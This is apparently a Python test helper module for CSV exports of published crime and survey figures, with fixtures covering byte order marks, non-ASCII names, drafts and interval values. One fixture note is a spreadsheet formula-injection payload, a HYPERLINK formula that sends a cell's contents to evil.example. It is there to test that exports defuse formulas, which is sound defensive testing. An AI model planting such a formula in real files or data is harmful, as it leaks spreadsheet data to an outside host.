import csv
import datetime
import io
from decimal import Decimal

from measures.models import PublicationStatus, Unit

from ..factories import AreaFactory, FigureFactory, MeasureFactory, PriorityAreaFactory

# What the files must hold, written out here rather than taken from the code
# that writes them: a test that reads the module's own constant cannot see it
# change. UTF-8's byte order mark, which the "for Excel" files start with:
BOM = b"\xef\xbb\xbf"
# What goes before a text cell a spreadsheet would run as a formula:
APOSTROPHE = "'"


def content(response) -> bytes:
    """The whole body of a streamed response (read once, kept on the response)."""
    if not hasattr(response, "_body_for_tests"):
        response._body_for_tests = b"".join(response.streaming_content)
    return response._body_for_tests


def csv_rows(response) -> list[dict]:
    data = content(response)
    assert not data.startswith(BOM)
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def csv_header(response) -> list[str]:
    return content(response).decode().splitlines()[0].split(",")


# Text a spreadsheet must keep as it is: letters beyond ASCII, and a formula.
CAFE = "Ynys Môn — café"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def people_figures() -> dict:
    """A few figures with what a spreadsheet gets wrong: a name and a note
    beyond ASCII, a note that looks like a formula, a negative change, an
    interval, yes/no values, and a draft that no public file may hold."""
    priority = PriorityAreaFactory(name="Reduce burglary", slug="reduce-burglary")
    count = MeasureFactory(
        name="Burglaries — all kinds", slug="burglaries", priority_area=priority, unit=Unit.COUNT
    )
    survey = MeasureFactory(name="Satisfaction", slug="satisfaction", unit=Unit.PERCENTAGE)
    mon = AreaFactory(name="Ynys Môn", slug="ynys-mon")
    shire = AreaFactory(name="Shire", slug="shire")
    baseline = FigureFactory(measure=count, area=mon, value=Decimal("100"), note=CAFE)
    latest = FigureFactory(
        measure=count,
        area=mon,
        period_start=datetime.date(2023, 4, 1),
        period_end=datetime.date(2024, 3, 31),
        value=Decimal("90.5000"),
        provisional=True,
        note=FORMULA,
        source_url="https://example.org/burglary",
    )
    draft = FigureFactory(
        measure=count,
        area=mon,
        period_start=datetime.date(2024, 4, 1),
        period_end=datetime.date(2025, 3, 31),
        value=Decimal("80"),
        note="draft only",
        status=PublicationStatus.DRAFT,
    )
    interval = FigureFactory(
        measure=survey,
        area=shire,
        period_start=datetime.date(2024, 1, 1),
        period_end=datetime.date(2024, 3, 31),
        value=Decimal("64.25"),
        lower=Decimal("60.1"),
        upper=Decimal("68.4"),
        series_break=True,
        note="-5",
    )
    return {"baseline": baseline, "latest": latest, "draft": draft, "interval": interval}
